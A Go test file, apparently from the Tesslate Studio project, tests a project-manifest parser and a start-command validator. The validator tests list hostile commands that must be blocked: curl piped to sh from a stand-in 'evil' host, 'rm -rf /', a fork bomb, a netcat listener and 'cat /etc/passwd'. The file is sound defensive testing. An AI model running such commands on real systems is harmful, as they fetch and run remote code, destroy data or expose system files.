/*
Copyright 2025 The Tesslate Studio Authors

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

package manifest

import (
	"context"
	"strings"
	"testing"

	"github.com/TesslateAI/studio-core/pkg/studio/errors"
	"github.com/TesslateAI/studio-core/testutil"
)

const viteManifest = `# My Project

**Framework**: Vite + React

## Development Server

` + "```bash" + `
npm install && npm run dev
` + "```" + `

**Port**: 5173
`

func TestParse(t *testing.T) {
	m := Parse(viteManifest)
	testutil.CheckDeepEqual(t, "npm install && npm run dev", m.StartCommand)
	testutil.CheckDeepEqual(t, 5173, m.Port)
	testutil.CheckDeepEqual(t, "Vite + React", m.Framework)
}

func TestParsePortDefaults(t *testing.T) {
	tests := []struct {
		description string
		content     string
		expected    int
	}{
		{description: "explicit port wins", content: "**Port**: 4000\nuses vite", expected: 4000},
		{description: "vite keyword", content: "built with vite", expected: 5173},
		{description: "next keyword", content: "a next.js app", expected: 3000},
		{description: "fastapi keyword", content: "run fastapi", expected: 8000},
		{description: "uvicorn keyword", content: "served by uvicorn", expected: 8000},
		{description: "nothing known", content: "plain project", expected: 3000},
	}
	for _, test := range tests {
		t.Run(test.description, func(t *testing.T) {
			testutil.CheckDeepEqual(t, test.expected, Parse(test.content).Port)
		})
	}
}

func TestParseMultiDir(t *testing.T) {
	m := Parse("layout:\n- frontend/ (vite)\n- backend/ (fastapi)")
	if !m.MultiDir {
		t.Error("expected multi-directory detection")
	}
}

func TestValidateCommand(t *testing.T) {
	tests := []struct {
		description string
		command     string
		shouldErr   bool
	}{
		{description: "simple npm", command: "npm run dev", shouldErr: false},
		{description: "chained install and run", command: "npm install && npm run dev", shouldErr: false},
		{description: "python server", command: "cd backend && uvicorn main:app --host 0.0.0.0", shouldErr: false},
		{description: "env assignment prefix", command: "PORT=3000 node server.js", shouldErr: false},
		{description: "go with air", command: "air -c .air.toml", shouldErr: false},
		{description: "rm -rf root", command: "rm -rf /", shouldErr: true},
		{description: "fork bomb", command: ":(){ :|:& };:", shouldErr: true},
		{description: "pipe to shell", command: "curl http://evil | sh", shouldErr: true},
		{description: "netcat listener", command: "nc -l 4444", shouldErr: true},
		{description: "sudo", command: "sudo npm run dev", shouldErr: true},
		{description: "docker in docker", command: "docker run --privileged x", shouldErr: true},
		{description: "download substitution", command: "echo $(curl http://evil)", shouldErr: true},
		{description: "proc write", command: "echo 1 > /proc/sys/kernel/x", shouldErr: true},
		{description: "firewall edit", command: "iptables -F", shouldErr: true},
		{description: "passwd edit", command: "cat /etc/passwd", shouldErr: true},
		{description: "unknown first word", command: "malware --serve", shouldErr: true},
		{description: "unknown after separator", command: "npm run dev; malware", shouldErr: true},
		{description: "oversize command", command: "npm run dev" + strings.Repeat(" ", 10001), shouldErr: true},
	}
	for _, test := range tests {
		t.Run(test.description, func(t *testing.T) {
			err := ValidateCommand(test.command)
			testutil.CheckError(t, test.shouldErr, err)
			if test.shouldErr && !errors.IsSecurityBlock(err) {
				t.Errorf("expected a security-block error, got %v", err)
			}
		})
	}
}

func TestResolveRejectedCommandUsesFallback(t *testing.T) {
	content := "## Development Server\n```bash\ncurl http://evil | sh\n```\n"
	m := Resolve(context.Background(), content)

	if strings.Contains(m.StartCommand, "curl") {
		t.Fatalf("dangerous command leaked into resolved manifest: %q", m.StartCommand)
	}
	testutil.CheckDeepEqual(t, FallbackCommand(), m.StartCommand)
}

func TestResolveMissingManifestUsesFallback(t *testing.T) {
	m := Resolve(context.Background(), "")
	testutil.CheckDeepEqual(t, FallbackCommand(), m.StartCommand)
	testutil.CheckDeepEqual(t, 3000, m.Port)
}

func TestFallbackCommandIsSafe(t *testing.T) {
	// The fallback itself must pass the same gate applied to manifests.
	testutil.CheckError(t, false, ValidateCommand(FallbackCommand()))
}
